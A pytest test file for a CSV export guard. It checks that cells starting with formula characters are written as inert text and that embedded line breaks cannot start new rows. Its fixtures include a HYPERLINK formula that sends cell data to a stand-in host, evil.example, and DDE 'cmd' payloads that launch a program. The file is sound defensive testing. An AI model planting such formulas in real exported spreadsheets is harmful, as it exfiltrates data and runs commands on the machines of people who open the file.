"""A table written here is text wherever it is opened."""

import csv
from pathlib import Path

import pytest

from cli.csv_out import write_csv
from guardrails.formats import spreadsheet_cell

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " \n=1+1",
    "  =1+1",
    "\uff1d1+1",
)


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula__is_written_as_text(cell: str, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    write_csv(out, ("name", "amount"), [(cell, "-12.50")])
    with out.open(encoding="utf-8", newline="") as text:
        _head, (name, amount) = csv.reader(text)
    assert name.startswith("'")
    assert name[1:] == cell.replace("\r", " ")
    assert amount == "-12.50"


@pytest.mark.parametrize(
    "cell", ["Acme", "-12.50", "+3", "-1,234.50", "2026-03-17", "12%", "", 5, None, "a=b"]
)
def test_anything_else__stays_as_it_is(cell: object) -> None:
    assert spreadsheet_cell(cell) == cell


def test_line_break_in_a_cell__begins_no_row(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    write_csv(out, ("name",), [("Acme\r=1+1",), ("Acme\n=1+1",)])
    with out.open(encoding="utf-8", newline="") as text:
        assert [row[0][:4] for row in csv.reader(text)] == ["name", "Acme", "Acme"]
